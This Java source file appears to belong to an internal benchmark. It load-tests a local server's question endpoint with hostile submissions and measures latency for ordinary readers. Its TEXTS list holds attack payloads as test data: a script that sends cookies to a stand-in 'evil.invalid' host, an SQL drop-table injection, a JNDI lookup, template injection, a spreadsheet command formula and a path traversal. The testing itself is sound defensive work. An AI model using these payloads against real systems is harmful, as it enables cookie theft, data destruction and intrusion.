package org.mingcha.bench.internal;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Submissions that nobody would make in good faith: scripts, SQL, control characters, a megabyte, broken encodings. Half come
 * from one address, half from as many as the loopback has.
 */
record HostileLoad(int port, int submissions, int attackers) {
    private static final List<String> TEXTS = List.of(
            "<script>fetch('//evil.invalid/'+document.cookie)</script>",
            "'; drop table correction.question; --",
            "${jndi:ldap://evil.invalid/a} #{7*7} {{7*7}}",
            "\u0000\u0008\u001b[2J\u202Eabc\uFEFF",
            "\"><img src=x onerror=alert(1)>",
            "=cmd|' /C calc'!A0",
            "a".repeat(1_000_000),
            "../../../../etc/passwd");

    /** The milliseconds within which 99 of 100 other readers had their answer meanwhile. */
    List<Double> others(List<byte[]> requests) {
        var next = new AtomicInteger();
        var over = new AtomicBoolean();
        try (var threads = Executors.newCachedThreadPool()) {
            var attacks = new ArrayList<Future<?>>();
            for (int i = 0; i < attackers; i++) {
                int attacker = i;
                attacks.add(threads.submit(() -> attack(attacker, next)));
            }
            var reader = threads.submit(() -> read(requests, over));
            for (var attack : attacks) attack.get();
            over.set(true);
            var times = reader.get().stream().sorted().toList();
            return List.of(times.get((int) Math.ceil(times.size() * 0.99) - 1));
        } catch (InterruptedException | java.util.concurrent.ExecutionException e) {
            throw new IllegalStateException("The hostile load broke off", e);
        }
    }

    private void attack(int attacker, AtomicInteger next) {
        for (int number = next.getAndIncrement(); number < submissions; number = next.getAndIncrement()) {
            var text = URLEncoder.encode(TEXTS.get(number % TEXTS.size()), StandardCharsets.UTF_8);
            int from = attacker % 2 == 0 ? 1 : 2 + number % 60_000;
            // A connection each: whoever attacks does not keep one, and a refused body may cost it.
            try (var line = HttpConnection.from(from, port)) {
                line.ask(HttpConnection.post("/p/ask", "text=" + text + "&confirmed=yes"));
            } catch (IOException refused) {
                // Cut off in the middle of a megabyte: what it deserves.
                continue;
            }
        }
    }

    private List<Double> read(List<byte[]> requests, AtomicBoolean over) throws IOException, InterruptedException {
        var times = new ArrayList<Double>();
        try (var line = HttpConnection.from(1, port)) {
            for (int i = 0; !over.get() || times.isEmpty(); i++) {
                var watch = new Stopwatch();
                if (line.ask(requests.get(i % requests.size())) != 200) {
                    throw new IllegalStateException("Another reader was not answered");
                }
                times.add(watch.seconds() * 1000);
                TimeUnit.MILLISECONDS.sleep(2);
            }
        }
        return times;
    }
}
